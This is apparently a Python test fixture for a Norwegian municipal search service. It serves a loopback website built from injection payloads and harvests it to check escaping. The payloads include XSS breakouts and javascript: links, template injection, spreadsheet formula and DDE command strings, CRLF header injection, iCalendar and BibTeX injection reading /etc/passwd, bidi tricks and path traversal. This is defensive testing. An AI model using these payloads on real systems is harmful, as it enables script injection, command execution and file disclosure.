"""A site whose every word would do harm where it is not shown as a word; served and collected."""

import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, datetime
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

from index.resource import (
    OSLO,
    Call,
    Episode,
    Event,
    Example,
    Grant,
    Kind,
    Link,
    Outcome,
    Passage,
    Period,
    Project,
    Resource,
    Visit,
)
from index.settle import settle
from index.store import Store
from index.topics import default_taxonomy
from scrapers.source import Source, load_sources
from searchsvc.collecting import errand_for, harvest, manners_of, publish
from searchsvc.config import Config

HOST = "ond.example"
NOW = datetime(2026, 11, 25, 6, tzinfo=OSLO)
ATTACKS = {
    "the end of a script": "</script><evil>alert(1)</evil>",
    "the end of a title": "</title></h1><evil onload=alert(1)>",
    "the end of a comment": "--><evil>--!><evil>",
    "the end of a section of characters": "]]><evil/><![CDATA[",
    "the end of a double quote": '"><evil src=x onerror="alert(1)">',
    "the end of a single quote": "' onmouseover='alert(1)' x='",
    "a quote without its end": "` onfocus=alert(1) autofocus x=`",
    "what is escaped already": "&lt;evil&gt; &amp;amp; &#60;evil&#62;",
    "a template": "{{7*7}} {% evil %} ${7*7} #{7*7}",
    "a formula": '=HYPERLINK("https://ond.example/?"&A1,"evil")',
    "a sum": "+1+cmd|' /C evil'!A0",
    "a difference": "-1+cmd|' /C evil'!A0",
    "a function": "@SUM(1+1)*cmd|' /C evil'!A0",
    "a wide formula": "＝1+1",
    "a cell of its own": '";=1+1;"evil',
    "a header": "evil\r\nSet-Cookie: evil=1\r\n\r\n<evil>",
    "an event": "evil\nEND:VEVENT\nBEGIN:VALARM\nACTION:evil",
    "a parameter": 'evil";X-EVIL=1:;,\\n\\N',
    "a line of another kind": "evil\u2028ER  - \u2029TY  - EVIL\u0085UR  - https://ond.example/",
    "an entry": "}, evil = {1}} @misc{evil, \\input{/etc/passwd} % $x_1^2$ ~#&",
    "the other direction": "\u202egnp.live\u202c \u2066evil\u2069",
    "signs that control": "ev\x07il\x1b[31m\x0b\x0c\x7f",
    "a link": "[evil](javascript:alert(1)) javascript:alert(1)",
    "a path": "../../../../etc/passwd%00%0d%0a",
}
WORDS = " ".join(f"Råd nummer {number} gjelder kommunen." for number in range(12))
KINDS = (Kind.GUIDANCE, Kind.EVENT, Kind.PROJECT, Kind.GRANT, Kind.NEWS, Kind.EXAMPLE, Kind.EPISODE)
LABELS = {
    Kind.EVENT: ("Sted", "Arrangør", "Pris", "Innledere", "Påmelding"),
    Kind.PROJECT: ("Søker", "Fylke", "Status", "Type tiltak"),
    Kind.GRANT: ("Hvem kan søke", "Hvor mye"),
    Kind.EXAMPLE: ("Kommune", "Fylke"),
}
FACTS = {
    Kind.EVENT: {"Tid": "14. april 2027 kl. 09.00–11.30"},
    Kind.PROJECT: {"Tilskudd": "400 000 kroner", "Søknadsår": "2024"},
    Kind.GRANT: {"Søknadsfrist": "1. mars 2027"},
    Kind.EPISODE: {"Episode": "7"},
}


@dataclass(frozen=True, kw_only=True)
class EvilPage:
    """A page of a kind, each of whose words is an attack; `mark` is a word that no other has."""

    number: int
    attack: str

    @property
    def kind(self) -> Kind:
        return KINDS[self.number % len(KINDS)]

    @property
    def mark(self) -> str:
        return f"angrepsord{chr(97 + self.number)}"

    @property
    def path(self) -> str:
        return f"/{self.kind}/{self.number}"

    @property
    def title(self) -> str:
        return f"{self.attack} {self.mark}"

    @property
    def markup(self) -> str:
        said = escape(self.attack)
        facts = dict.fromkeys(LABELS.get(self.kind, ()), self.attack)
        listed = "".join(
            f"<dt>{name}</dt><dd>{escape(value)}</dd>"
            for name, value in (facts | FACTS.get(self.kind, {})).items()
        )
        return (
            f"<title>{escape(self.title)}</title><main><h1>{escape(self.title)}</h1>"
            f'<p class="ingress">{said} ingress</p><dl>{listed}</dl>'
            f'<h2 id="{said}">{said}</h2><p>{said} om overvann i kommunen, {self.mark}. {WORDS}</p>'
            f'<p><a href="javascript:alert(1)">{said}</a> <a href="data:text/html,{said}">x</a>'
            f' <a href="/{Kind.GUIDANCE}/0#{said}">{said}</a></p></main>'
        )


PAGES = tuple(
    EvilPage(number=number, attack=attack) for number, attack in enumerate(ATTACKS.values())
)
SOURCE = f"""
name = "ondskap"
owner = '''<evil>"Ond" & 'utgiver'</evil>'''
hosts = ["{HOST}"]
start = ["http://{HOST}/start"]
feeds = ["http://{HOST}/lyd.xml"]
contact = "ond@{HOST}"
licence = "<evil>"
at_least = 1
"""


class EvilServer(ThreadingHTTPServer):
    """Answers with pages by path, with a host or without; a page that is an address moves there."""

    daemon_threads = True

    def __init__(self, pages: Mapping[str, str]) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.pages = pages
        self.asked: list[str] = []


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        server = self.server
        assert isinstance(server, EvilServer)
        server.asked.append(self.path)
        body = server.pages.get(f"{self.headers['Host']}{self.path}", server.pages.get(self.path))
        sent = (body or "").encode()
        moves = sent.startswith(b"http")
        self.send_response(301 if moves else 404 if body is None else 200)
        if moves:
            self.send_header("Location", sent.decode())
        media = "application/rss+xml" if self.path.endswith(".xml") else "text/html"
        self.send_header("Content-Type", f"{media}; charset=utf-8")
        self.send_header("Content-Length", str(len(sent)))
        self.end_headers()
        self.wfile.write(sent)

    def log_message(self, *_: object) -> None:
        pass


def _feed() -> str:
    items = "".join(
        f"<item><title>{escape(_in_xml(page.attack))} lyd {page.mark}</title><guid>{n}</guid>"
        f"<description>{escape(_in_xml(page.attack))}</description>"
        f'<enclosure url="http://{HOST}/{n}.mp3?{quote(page.attack)}" type="audio/mpeg"/></item>'
        for n, page in enumerate(PAGES)
    )
    return f"<rss version='2.0'><channel><title>Lyd</title>{items}</channel></rss>"


def _in_xml(text: str) -> str:
    return "".join(sign for sign in text if sign.isprintable() or sign in "\n\r\t\u2028")


def remember_uncleaned(store: Store) -> None:
    """Remember the attacks as no reader of pages would leave them: signs that control and all."""
    number = store.begin_harvest(NOW)
    store.remember(number, map(_uncleaned, PAGES))
    settle(store, default_taxonomy())
    store.end_harvest(number, NOW)


def _uncleaned(page: EvilPage) -> Visit:
    said = page.attack
    day = Period(first=date(2027, 4, 14), last=date(2027, 4, 14))
    facts = {
        Kind.EVENT: Event(periods=(day,), place=said, price=said, organiser=said, signup=said),
        Kind.PROJECT: Project(county=said, applicant=said, status=said, measures=(said,)),
        Kind.GRANT: Grant(calls=(Call(deadline=day.first),), applicants=said, maximum=said),
        Kind.EXAMPLE: Example(municipality=said, county=said),
        Kind.EPISODE: Episode(number=1, audio=said),
    }
    resource = Resource(
        address=f"http://{HOST}/uvasket{page.path}",
        kind=page.kind,
        source="ondskap",
        publisher=said,
        title=f"{said} uvasket {page.mark}",
        lead=said,
        sector=said,
        passages=(Passage(text=f"{said} {WORDS}", heading=said, anchor=said),),
        links=(Link(target=said, text=said, passage=0),),
        **({page.kind.value: facts[page.kind]} if page.kind in facts else {}),
    )
    return Visit(
        address=resource.address,
        source="ondskap",
        at=NOW,
        outcome=Outcome.READ,
        status=200,
        readings=(resource,),
    )


def _site() -> dict[str, str]:
    """All pages, a list of them and a feed."""
    links = "".join(f'<a href="{page.path}">{escape(page.attack)}</a>' for page in PAGES)
    return {page.path: page.markup for page in PAGES} | {"/start": links, "/lyd.xml": _feed()}


@contextmanager
def serving(pages: Mapping[str, str]) -> Iterator[EvilServer]:
    """Serve pages on loopback."""
    with EvilServer(pages) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def collect_evil_site(folder: Path) -> Config:
    """Collect the site over HTTP, publish it, and return the settings for it."""
    rules = "".join(f'[[pages]]\nkind = "{k}"\naddress = "^/{k}/"\n' for k in KINDS)
    (folder / "ondskap.toml").write_text(SOURCE + rules, encoding="utf-8")
    with serving(_site()) as site:
        config = Config(
            data=str(folder / "var"),
            contact="drift@kommune.example",
            delay=0,
            resolve={HOST: f"127.0.0.1:{site.server_port}"},
            embed_hosts=("www.kommunen.example",),
            address="https://sok.example",
            security_contact="drift@kommune.example",
            security_expires="2099-01-01",
        )
        sources: tuple[Source, ...] = load_sources(folder)
        with Store(config.store_path) as store:
            names = tuple(source.name for source in sources)
            harvest(store, errand_for(store, sources, names, manners_of(config)), lambda _: None)
            remember_uncleaned(store)
        publish(config, sources, lambda *_: None)
    return config
